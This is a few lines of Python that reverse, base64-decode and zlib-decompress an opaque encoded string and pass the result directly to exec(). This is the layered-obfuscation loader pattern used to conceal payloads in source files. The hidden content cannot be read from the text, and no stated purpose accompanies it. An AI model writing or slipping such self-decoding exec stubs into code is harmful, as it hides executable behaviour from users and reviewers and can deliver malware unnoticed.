import base64
import zlib

_ = lambda s: zlib.decompress(base64.b64decode(s[::-1]))
exec((_)(b'=cVzcQ/DAFMk0KSihFIwABAAAA'))
